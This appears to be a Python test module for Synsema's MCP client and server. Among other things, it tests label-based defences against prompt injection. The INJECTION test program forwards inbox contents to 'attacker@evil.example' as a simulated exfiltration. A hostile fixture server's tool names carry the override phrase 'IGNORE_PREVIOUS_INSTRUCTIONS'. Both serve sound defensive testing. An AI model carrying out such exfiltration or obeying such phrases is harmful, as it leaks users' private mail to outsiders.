"""MCP both ways (docs/mcp.md): a real MCP server written with the official SDK
(tests/mcp_server_fixture.py) as the tool source of Synsema programs, and the SDK's client
calling `syn serve --mcp` over stdio and streamable HTTP. Every network use is 127.0.0.1."""

import asyncio
import json
import os
import socket
import subprocess
import sys
import time
from functools import partial

import pytest
from mcp import ClientSession, StdioServerParameters
from mcp.client.stdio import stdio_client
from mcp.client.streamable_http import streamable_http_client

import synsema
from synsema.stdlib import mcpclient
from synsema.stdlib.hostcall import PC_NOTE
from synsema.vm.errors import SynError

from conftest import ROOT, syn_command
from harness import result

# They start MCP servers (the SDK's, syn serve): make test-fast skips the module.
pytestmark = pytest.mark.slow

FIXTURE = [sys.executable, str(ROOT / "tests" / "mcp_server_fixture.py")]
MAIL = {"mail": FIXTURE}
EXAMPLE = ROOT / "examples" / "mcp"
INBOX = [sys.executable, str(EXAMPLE / "inbox_server.py")]


run = partial(result, name="app.syn", dedent=False)   # the API's Result (tests/harness.py)


# ---- JSON Schema -> parameters (no server needed) -----------------------------------------

SCHEMA = {
    "type": "object",
    "required": ["s", "n", "i", "b", "xs", "m"],
    "properties": {
        "s": {"type": "string", "description": "a text"},
        "n": {"type": "number"}, "i": {"type": "integer"}, "b": {"type": "boolean"},
        "xs": {"type": "array", "items": {"type": "string"}}, "m": {"type": "object"},
        "unit": {"type": "string", "enum": ["C", "F"], "default": "C"},
        "level": {"enum": [1, 2, 3]},
        "maybe": {"anyOf": [{"type": "integer"}, {"type": "null"}], "default": None},
        "both": {"type": ["integer", "number"]},
        "mixed": {"anyOf": [{"type": "string"}, {"type": "number"}]},
        "item": {"$ref": "#/$defs/Item"},
        "far": {"$ref": "https://example.com/schema"},
        "free": {},
    },
    "$defs": {"Item": {"type": "object", "properties": {"k": {"type": "string"}}}},
}


def test_json_schema_maps_to_typed_parameters():
    params = {p.name: p for p in mcpclient._params(SCHEMA)}
    types_ = {n: p.type for n, p in params.items()}
    assert types_ == {"s": "text", "n": "number", "i": "number", "b": "bool", "xs": "list",
                      "m": "map", "unit": "text", "level": "number", "maybe": "number",
                      "both": "number", "mixed": "any", "item": "map", "far": "any",
                      "free": "any"}
    required = [n for n, p in params.items() if not p.has_default]
    assert required == ["s", "n", "i", "b", "xs", "m"]
    assert params["unit"].default == "C" and params["unit"].choices == ("C", "F")
    assert params["level"].choices == (1, 2, 3)
    assert params["s"].description == "a text"
    # integer parameters refuse a fractional number before the server sees it
    with pytest.raises(SynError, match="whole number"):
        params["i"].to_python(2.5, "srv.t")
    assert params["maybe"].to_python(6.0, "srv.t") == 6


class _Fake:
    def __init__(self, accepts=None):
        self.spec = mcpclient.parse_servers({"srv": {"command": "x",
                                                     "accepts": accepts or {}}})[0]


def test_tool_names_schemas_and_contracts_from_a_listing():
    listed = [{"name": "get-weather", "description": "  Weather.  ", "inputSchema": SCHEMA},
              {"name": "ping"}]
    tools = mcpclient._host_tools(_Fake({"get_weather": {"s": ["untrusted"]},
                                         "*": {"*": ["public-ish"]}}), listed)
    assert list(tools) == ["srv.get_weather", "srv.ping"]
    t = tools["srv.get_weather"]
    assert t.remote == "get-weather" and t.description == "Weather."
    assert t.result_labels == {"mcp.srv"}
    assert t.accepts["s"] == {"untrusted", "public-ish"} and t.accepts["n"] == {"public-ish"}
    assert tools["srv.ping"].params == ()
    with pytest.raises(mcpclient.StartError, match="both be host tool 'srv.a_b'"):
        mcpclient._host_tools(_Fake(), [{"name": "a-b"}, {"name": "a.b"}])
    with pytest.raises(mcpclient.StartError, match="not an object schema"):
        mcpclient._host_tools(_Fake(), [{"name": "t", "inputSchema": {"type": "array"}}])


@pytest.mark.parametrize("servers, message", [
    ({"my-srv": "x"}, "must be an identifier"),
    ({"s": {"comand": "x"}}, "did you mean 'command'"),
    ({"s": {"command": "x", "url": "http://127.0.0.1:1/mcp"}}, "exactly one"),
    ({"s": {"command": "x", "labels": "untrusted"}}, "must be a list"),
    ({"s": {"command": "x", "labels": ["no way"]}}, "is not a label name"),
    ({"s": {"command": "x", "timeout": 0}}, "above 0"),
    ({"s": ""}, "the command is empty"),
])
def test_bad_server_settings_are_usage_errors(servers, message):
    with pytest.raises(synsema.UsageError, match=message) as e:
        run('print(host_tools())', mcp_servers=servers)
    assert e.value.exit_code == 2


def test_cli_options_become_server_settings():
    values = {"mcp": ("mail=python srv.py --db 'a b'", "web=http://127.0.0.1:8000/mcp"),
              "mcp_label": ("mail=untrusted,mail-data", "web="),
              "mcp_accepts": ("mail.send:body=untrusted", "mail.*:*=x"),
              "mcp_timeout": 5.0}
    servers = mcpclient.from_options(values)
    assert servers == {
        "mail": {"command": "python srv.py --db 'a b'", "timeout": 5.0,
                 "labels": ["untrusted", "mail-data"],
                 "accepts": {"send": {"body": ["untrusted"]}, "*": {"*": ["x"]}}},
        "web": {"url": "http://127.0.0.1:8000/mcp", "timeout": 5.0, "labels": []}}
    spec = mcpclient.parse_servers(servers)[0]
    assert spec.argv == ["python", "srv.py", "--db", "a b"]
    for bad, message in [({"mcp": ("mail",)}, "NAME=COMMAND"),
                         ({"mcp": ("a=x",), "mcp_label": ("b=l",)}, "no MCP server named 'b'"),
                         ({"mcp": ("a=x",), "mcp_accepts": ("a.t=l",)}, "NAME.TOOL:PARAM")]:
        with pytest.raises(mcpclient.ConfigError, match=message):
            mcpclient.from_options(bad)


# ---- a Synsema program using the fixture server --------------------------------------------

TOUR = '''
require tool("mail.*")
print(len(keys(host_tools())) > 5)
let add be host_tool("mail.add")
print(add(2))
print(add(2, 5))
print(host_tool("mail.forecast")("Lima"))
print(host_tool("mail.echo_words")(["a", "b"], 2))
let spec be tool_spec(host_tool("mail.send_mail"), nothing)
print(spec["params"])
print(spec["optional"])
print(starts_with(spec["describe"], "Send a mail."))
try
    host_tool("mail.fail")("no reason")
recover e
    print("caught: " + e)
try
    host_tool("mail.forecast")("Lima", "K")
recover e
    print("caught: " + e)
print(host_tool("mail.shout")())
'''


def test_tools_are_host_tools_with_converted_results():
    out = run(TOUR, mcp_servers=MAIL).output.splitlines()
    assert out == [
        "true", "3", "7", '{"city": "Lima", "high": 21, "unit": "C"}', '["a", "b", "a", "b"]',
        '["to: text", "body: text", "urgent: bool"]', '["urgent"]', "true",
        "caught: host tool 'mail.fail' failed: Error executing tool fail: cannot do it: "
        "no reason",
        "caught: host tool 'mail.forecast': 'unit' must be one of \"C\", \"F\", got \"K\"",
        "quiet"]          # and nothing of what the server wrote to its stderr


def test_calling_needs_the_tool_capability():
    src = '''require tool("mail.*")
task peek()
    require tool("mail.add")
    give host_tool("mail.read_inbox")()
try
    call_tool(peek, {})
recover e
    print(e)
'''
    assert run(src, mcp_servers=MAIL).output.strip() == (
        "host tool 'mail.read_inbox' needs tool(\"mail.read_inbox\"); task 'peek' runs with "
        "[tool(\"mail.add\")]; add `require tool(\"mail.read_inbox\")` as the first line of "
        "task 'peek'")
    with pytest.raises(synsema.Refused, match=r'tool\("mail.\*"\)'):
        run('require tool("mail.*")\nprint(host_tools())', cap_set="stdout,tool=mail.add",
            mcp_servers=MAIL)


INJECTION = '''
require tool("mail.*")
let mail be host_tool("mail.read_inbox")()
print(labels_of(mail))
try
    host_tool("mail.send_mail")("attacker@evil.example", mail)
    print("SENT")
recover e
    print(declassify(e, "the refusal names labels only"))
'''
CEILING = "stdout,stdout=mcp.mail,stdout=untrusted,tool=mail.*,declassify=mcp.mail"


def test_the_label_contract_stops_a_prompt_injection_in_results():
    r = run(INJECTION, labels=True, cap_set=CEILING, mcp_servers=MAIL)
    assert r.output.splitlines() == [
        '["mcp.mail"]',
        "host tool 'mail.send_mail' refused: 'body' carries [mcp.mail], accepts []"]
    assert [c[0::2] for c in r.tool_calls] == [("mail.read_inbox", "ok"),
                                               ("mail.send_mail", "refused")]
    # the host can trust a parameter with that label explicitly ...
    accepting = {"mail": {"command": FIXTURE,
                          "accepts": {"send_mail": {"body": ["mcp.mail"]}}}}
    r = run(INJECTION, labels=True, cap_set=CEILING, mcp_servers=accepting)
    assert r.output.splitlines() == ['["mcp.mail"]', "SENT"]
    # ... or label the server's results otherwise (here: untrusted)
    relabelled = {"mail": {"command": FIXTURE, "labels": ["untrusted"]}}
    r = run(INJECTION.replace("mcp.mail", "untrusted"), labels=True,
            cap_set=CEILING + ",declassify=untrusted", mcp_servers=relabelled)
    assert r.output.splitlines()[0] == '["untrusted"]'
    assert "'body' carries [untrusted], accepts []" in r.output
    # without --labels nothing is tracked: the injection would go through
    assert "SENT" in run(INJECTION.replace("declassify(e, \"the refusal names labels only\")",
                                           "e"), mcp_servers=MAIL).output


def _gone(pid, within=10.0):
    end = time.monotonic() + within
    while time.monotonic() < end:
        try:
            os.kill(pid, 0)
        except ProcessLookupError:
            return True
        time.sleep(0.05)
    return False


def test_a_server_that_dies_gives_catchable_errors_naming_it_and_is_stopped_after():
    src = '''
require tool("mail.*")
print(host_tool("mail.pid")())
try
    host_tool("mail.die")()
recover e
    print(e)
try
    host_tool("mail.add")(1)
recover e
    print(e)
'''
    out = run(src, mcp_servers=MAIL).output.splitlines()
    assert out[1] == ("host tool 'mail.die' failed: MCP server 'mail' closed the connection "
                      "(the server stopped); its stderr said: fixture: dying on purpose")
    assert out[2] == ("host tool 'mail.add' failed: MCP server 'mail' is not running (it "
                      "stopped earlier in this run)")
    assert _gone(int(out[0]))


def test_a_server_that_does_not_answer_in_time_gives_a_catchable_error():
    src = '''require tool("mail.*")
try
    host_tool("mail.nap")(10)
recover e
    print(e)
print(host_tool("mail.add")(1))
'''
    # The timeout covers the server's start too (importing the mcp SDK takes about 2 s on
    # a slow machine), so it is 4 s here; the run must end well before the 10 s nap does.
    started = time.monotonic()
    r = run(src, mcp_servers={"mail": {"command": FIXTURE, "timeout": 4}})
    assert r.output.splitlines() == [
        "host tool 'mail.nap' failed: MCP server 'mail' did not answer within 4 s", "2"]
    assert time.monotonic() - started < 9.5


@pytest.mark.parametrize("ending, error", [
    ('fail("the program gave up")', synsema.RunError),
    ("while true\n    let x be 1", synsema.LimitExceeded),
])
def test_the_server_is_stopped_when_the_run_ends_badly(tmp_path, ending, error):
    src = f'require tool("mail.*")\nhost_tool("mail.pid")()\n{ending}\n'
    pidfile = tmp_path / "pid"
    server = {"mail": {"command": FIXTURE, "env": {"FIXTURE_PIDFILE": str(pidfile)}}}
    with pytest.raises(error):
        run(src, mcp_servers=server, max_steps=100000)
    assert _gone(int(pidfile.read_text()))


def test_a_server_that_cannot_start_is_a_clear_error_naming_it():
    with pytest.raises(synsema.RunError) as e:
        run('print(host_tools())', mcp_servers={"mail": FIXTURE + ["--fail-start"]})
    assert e.value.message.startswith("error: MCP server 'mail' (")
    assert e.value.message.endswith("could not start: it closed the connection before "
                                    "answering (did it exit?); its stderr said: fixture: no "
                                    "database at /nowhere")
    with pytest.raises(synsema.RunError, match="MCP server 'x' .* no such program "
                                               "'/no/such/server'"):
        run('print(host_tools())', mcp_servers={"x": "/no/such/server --flag"})
    with pytest.raises(synsema.UsageError, match="has no tool 'send_mial'.*'send_mail'"):
        run('print(host_tools())', mcp_servers={"mail": {"command": FIXTURE, "accepts": {
            "send_mial": {"body": ["x"]}}}})


def test_servers_start_only_for_a_program_that_can_reach_a_host_tool():
    # the command does not exist: starting it would fail, so passing shows it never ran
    r = run('print("no tools needed")', mcp_servers={"x": "/no/such/server"})
    assert r.output == "no tools needed\n"


def _free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _wait_for_port(port, proc, within=20.0):
    end = time.monotonic() + within
    while time.monotonic() < end:
        if proc.poll() is not None:
            pytest.fail(f"the server exited: {proc.stderr.read()}")
        try:
            socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
            return
        except OSError:
            time.sleep(0.1)
    pytest.fail("the HTTP server did not start listening")


def test_a_streamable_http_server_on_loopback():
    port = _free_port()
    proc = subprocess.Popen(FIXTURE + ["--http", str(port)], stdout=subprocess.DEVNULL,
                            stderr=subprocess.PIPE, text=True)
    try:
        _wait_for_port(port, proc)
        r = run('require tool("web.*")\nprint(host_tool("web.add")(40, 2))',
                mcp_servers={"web": f"http://127.0.0.1:{port}/mcp"})
        assert r.output == "42\n"
    finally:
        proc.terminate()
        proc.wait(10)


# ---- the command line ----------------------------------------------------------------------

def test_run_exec_and_test_take_mcp_servers(syn, write, tmp_path):
    app = write("app.syn", INJECTION + '\ntest "the tools are there"\n'
                '    assert(contains(host_tools(), "mail.add"))\n')
    server = "mail=" + " ".join(FIXTURE)
    r = syn("run", app, "--labels", "--cap-set", CEILING, "--mcp", server)
    assert r.returncode == 0, r.stderr
    assert r.stdout.splitlines()[-1] == ("host tool 'mail.send_mail' refused: 'body' carries "
                                         "[mcp.mail], accepts []")
    assert "fixture:" not in r.stdout + r.stderr        # the server's stderr stays out
    assert syn("compile", app).returncode == 0
    r = syn("exec", tmp_path / "app.synb", "--mcp", server, "--mcp-accepts",
            "mail.send_mail:body=mcp.mail", "--labels", "--cap-set", CEILING)
    assert r.returncode == 0, r.stderr
    assert r.stdout.splitlines()[-1] == "SENT"
    r = syn("test", app, "--mcp", server)
    assert r.returncode == 0, r.stdout + r.stderr
    assert "1 passed, 0 failed" in r.stdout
    r = syn("run", app, "--mcp-label", "mail=x")
    assert r.returncode == 2 and "no MCP server named 'mail'" in r.stderr


# ---- syn serve: the SDK's client calling a Synsema program ---------------------------------

SERVED = '''intent: "small sums"

-- Twice a number.
-- n: the number to double
task double(n: number)
    give n * 2

task greet(name: text, polite: bool = true)
    print("greeting " + name)
    when polite
        give "Hello, " + name + "."
    give "hi " + name

task card(n: number)
    give {"n": n, "square": n * n}

task secret(n: number)
    give private(n + 1, "customers")

task boom()
    fail("no luck")
'''


def _session(params, calls, url=None):
    """List the tools and make `calls` [(name, args)] in one SDK session; (tools, results)
    as wire dicts."""
    async def go():
        transport = streamable_http_client(url) if url else stdio_client(params)
        async with transport as streams:
            async with ClientSession(streams[0], streams[1]) as s:
                await s.initialize()
                tools = [t.model_dump(mode="json", by_alias=True, exclude_none=True)
                         for t in (await s.list_tools()).tools]
                results = []
                for name, args in calls:
                    res = await s.call_tool(name, args)
                    results.append(res.model_dump(mode="json", by_alias=True,
                                                  exclude_none=True))
                return tools, results

    async def bounded():
        return await asyncio.wait_for(go(), 40)
    return asyncio.run(bounded())


def _serve(*args, cwd):
    cmd = syn_command()
    return StdioServerParameters(command=cmd[0], args=cmd[1:] + ["serve", *map(str, args)],
                                 cwd=str(cwd))


def _texts(result):
    return [c["text"] for c in result["content"]]


def test_the_sdk_client_calls_syn_serve_over_stdio(write, tmp_path, syn):
    app = write("sums.syn", SERVED)
    assert syn("compile", app).returncode == 0
    tools, results = _session(
        _serve("sums.synb", "--mcp", "--labels", "--cap-set", "stdout", cwd=tmp_path),
        [("double", {"n": 21}), ("greet", {"name": "Ana"}), ("card", {"n": 3}),
         ("secret", {"n": 1}), ("boom", {}), ("double", {"n": "x"})])
    outline = json.loads(syn("outline", app, "--json").stdout)
    # outline's schema, with a description on every parameter (issue 28, item 7)
    undescribed = [(t["name"], dict(t["inputSchema"], properties={
        k: {f: v for f, v in p.items() if f != "description"}
        for k, p in t["inputSchema"]["properties"].items()})) for t in tools]
    assert undescribed == [(t["name"], t["input_schema"]) for t in outline["tasks"]]
    # the doc comment above the task (read from the source beside the .synb)
    assert tools[0]["description"] == ("Twice a number.\n\n"
                                       "small sums (Task double(n: number) of sums.syn)")
    assert tools[0]["inputSchema"]["properties"]["n"]["description"] == "the number to double"
    # a task without one: as before; its parameters described by their types
    assert tools[1]["description"] == ("small sums (Task greet(name: text, polite: bool = ...) "
                                       "of sums.syn)")
    assert tools[1]["inputSchema"]["properties"]["polite"]["description"] == "bool (optional)"
    double, greet, card, secret, boom, bad = results
    assert (_texts(double), double["isError"]) == (["42"], False)
    assert _texts(greet) == ["Hello, Ana."]         # its print went to the server's stderr
    assert card["structuredContent"] == {"n": 3, "square": 9}
    assert secret["isError"] and _texts(secret) == [
        "the result of task 'secret' carries labels the host ceiling (--cap-set) does not let "
        "out (stdout=LABEL), so an MCP client, a sink like stdout, may not receive it"]
    assert boom["isError"] and "error: no luck" in _texts(boom)[0]
    assert bad["isError"] and _texts(bad) == [
        "sums.syn: error: bad arguments for task 'double': 'n' must be number, got text"]
    # with stdout=customers in the ceiling the client may see it; --expose narrows the list
    tools, (secret,) = _session(
        _serve("sums.syn", "--mcp", "--labels", "--cap-set", "stdout,stdout=customers",
               "--expose", "secret", cwd=tmp_path), [("secret", {"n": 1})])
    assert [t["name"] for t in tools] == ["secret"] and _texts(secret) == ["2"]


def test_syn_serve_usage_errors(write, syn):
    app = write("sums.syn", SERVED)
    r = syn("serve", app, "--mcp", "--expose", "doubel")
    assert r.returncode == 2 and "has no task 'doubel'; did you mean 'double'?" in r.stderr
    r = syn("serve", app, "--mcp", "--http", "0.0.0.0:8000")
    assert r.returncode == 2 and "loopback only" in r.stderr
    r = syn("serve", app)
    assert r.returncode == 2 and "--mcp" in r.stderr


def test_syn_serve_over_streamable_http(write, tmp_path):
    write("sums.syn", SERVED)
    proc = subprocess.Popen(syn_command() + ["serve", "sums.syn", "--mcp", "--http",
                                             "127.0.0.1:0"], cwd=tmp_path,
                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    try:
        line = proc.stderr.readline()           # written once it listens
        assert " over MCP at http://127.0.0.1:" in line, line
        url = line.split(" at ")[1].split()[0]
        _, (double,) = _session(None, [("double", {"n": 4})], url=url)
        assert _texts(double) == ["8"]
    finally:
        proc.terminate()
        proc.wait(10)


# ---- the example agent ---------------------------------------------------------------------

def test_the_example_agent_on_its_local_mcp_server(tmp_path, syn):
    prog = synsema.compile_file(EXAMPLE / "inbox_agent.syn")
    outbox = tmp_path / "outbox.jsonl"
    server = {"command": INBOX, "env": {"INBOX_OUTBOX": str(outbox)}}
    assert prog.call("summary", mcp_servers={"inbox": server}).value.splitlines() == [
        "boss@corp.example: Quarterly numbers", "newsletter@shop.example: A special offer",
        "ana@corp.example: Lunch?"]
    contract = dict(server, accepts={"read_mail": {"id": ["mcp.inbox"]},
                                     "send_mail": {"body": ["mcp.inbox"]}})
    ceiling = "stdout,stdout=mcp.inbox,tool=inbox.*"
    r = prog.call("follow_requests", labels=True, cap_set=ceiling,
                  mcp_servers={"inbox": contract})
    assert r.value == ["host tool 'inbox.send_mail' refused: 'to' carries [mcp.inbox], "
                       "accepts []" + PC_NOTE] * 2
    assert not outbox.exists()                      # nothing left the mailbox
    r = prog.call("forward", {"id": 1, "recipient": "me@home.example"}, labels=True,
                  cap_set=ceiling, mcp_servers={"inbox": contract})
    assert r.value == "sent to me@home.example"
    assert [json.loads(x)["to"] for x in outbox.read_text().splitlines()] == [
        "me@home.example"]
    r = syn("test", EXAMPLE)
    assert r.returncode == 0 and "1 passed, 0 failed" in r.stdout, r.stdout + r.stderr


def test_the_example_agent_served_and_called_by_the_sdk_client(tmp_path):
    server = "inbox=" + " ".join(INBOX)
    _, (summary, follow) = _session(
        _serve(EXAMPLE / "inbox_agent.syn", "--mcp", "--mcp-server", server, "--labels",
               "--cap-set", "stdout,stdout=mcp.inbox,tool=inbox.*",
               "--mcp-accepts", "inbox.read_mail:id=mcp.inbox",
               "--mcp-accepts", "inbox.send_mail:body=mcp.inbox", cwd=tmp_path),
        [("summary", {}), ("follow_requests", {})])
    assert _texts(summary)[0].startswith("boss@corp.example: Quarterly numbers")
    assert not follow["isError"]
    assert json.loads(_texts(follow)[0]) == [
        "host tool 'inbox.send_mail' refused: 'to' carries [mcp.inbox], accepts []"
        + PC_NOTE] * 2


def test_calls_written_before_stdin_closes_are_all_answered(write, tmp_path):
    # A client may write its requests and close its end at once: the server answers
    # every request before it exits (the SDK alone would cancel the running call).
    write("slow.syn", "task slow(n: number)\n    let t be 0\n    for each i in range(100000)\n"
                      "        set t to t + 1\n    give t + n\n")
    msgs = [{"jsonrpc": "2.0", "id": 1, "method": "initialize",
             "params": {"protocolVersion": "2025-06-18", "capabilities": {},
                        "clientInfo": {"name": "t", "version": "1"}}},
            {"jsonrpc": "2.0", "method": "notifications/initialized"},
            {"jsonrpc": "2.0", "id": 2, "method": "tools/call",
             "params": {"name": "slow", "arguments": {"n": 1}}},
            {"jsonrpc": "2.0", "id": 3, "method": "tools/call",
             "params": {"name": "slow", "arguments": {"n": 2}}}]
    r = subprocess.run(syn_command() + ["serve", "slow.syn", "--mcp"], cwd=tmp_path,
                       input="".join(json.dumps(m) + "\n" for m in msgs), capture_output=True,
                       text=True, timeout=60)
    assert r.returncode == 0, r.stderr
    answers = {m["id"]: m for m in map(json.loads, r.stdout.splitlines())}
    assert sorted(answers) == [1, 2, 3]
    assert answers[2]["result"]["content"][0]["text"] == "100001"
    assert answers[3]["result"]["content"][0]["text"] == "100002"
    # The initialize answer names the server and its version (the package's).
    info = answers[1]["result"]["serverInfo"]
    assert info == {"name": "slow", "version": synsema.__version__}


HOSTILE = '''
require tool("mail.*")
let names be keys(host_tools())
print(labels_of(names))
print(labels_of(len(host_tools())))
print(labels_of(tool_spec(host_tools()["mail.add"], nothing)))
print(labels_of(host_tool("mail.add")))
'''


def test_a_hostile_servers_tool_names_carry_its_label():
    # The server chose its tools' names: as its descriptions (and results) do, they carry
    # its label, so an injection written as a tool name cannot reach a model, stdout or a
    # tool unlabelled.
    hostile = {"mail": FIXTURE + ["--hostile"]}
    r = run(HOSTILE + 'print(names)\n', labels=True,
            cap_set="stdout,stdout=mcp.mail,tool=mail.*", mcp_servers=hostile)
    out = r.output.splitlines()
    assert out[:4] == ['["mcp.mail"]', '["mcp.mail"]', '["mcp.mail"]', "[]"]
    assert "IGNORE_PREVIOUS_INSTRUCTIONS" in out[-1]
    with pytest.raises(synsema.LabelViolation, match="print would reveal data labelled "
                                                      "mcp.mail"):
        run(HOSTILE, labels=True, cap_set="stdout,tool=mail.*", mcp_servers=hostile)
    # a server trusted with labels=[] gives plain names
    trusted = {"mail": {"command": FIXTURE + ["--hostile"], "labels": []}}
    assert run(HOSTILE, labels=True, cap_set="stdout,tool=mail.*",
               mcp_servers=trusted).output.splitlines()[:4] == ["[]", "[]", "[]", "[]"]
